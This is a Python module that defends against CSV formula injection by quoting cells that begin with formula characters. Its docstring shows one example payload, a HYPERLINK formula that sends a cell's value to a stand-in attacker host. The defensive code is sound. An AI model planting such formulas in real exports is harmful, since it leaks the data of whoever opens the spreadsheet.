"""CSV files that spreadsheets open as data, never as formulas (CSV injection).

A cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return is read
by Excel, LibreOffice and Google Sheets as a formula, so a theme titled
`=HYPERLINK("https://evil.example/?leak="&A1,"Click")` would run in the
exporter's spreadsheet. Such cells get a leading `'`, which spreadsheets show
as plain text. Plain numbers (`-12.5`) are left alone so figures stay figures.
Every CSV the app produces is written through `writer` or `DictWriter`.
"""

import csv
import re

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")


def safe_cell(value):
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        if _PLAIN_NUMBER.fullmatch(value):
            return value
        return "'" + value
    return value


class _SafeWriter:
    def __init__(self, handle, **kwargs):
        self._writer = csv.writer(handle, **kwargs)

    def writerow(self, row):
        return self._writer.writerow([safe_cell(value) for value in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def writer(handle, **kwargs) -> _SafeWriter:
    """Like `csv.writer`, with every cell neutralised."""
    return _SafeWriter(handle, **kwargs)


class DictWriter(csv.DictWriter):
    """Like `csv.DictWriter`, with every cell neutralised."""

    def writerow(self, rowdict):
        return super().writerow({key: safe_cell(value) for key, value in rowdict.items()})

    def writerows(self, rowdicts):
        for rowdict in rowdicts:
            self.writerow(rowdict)
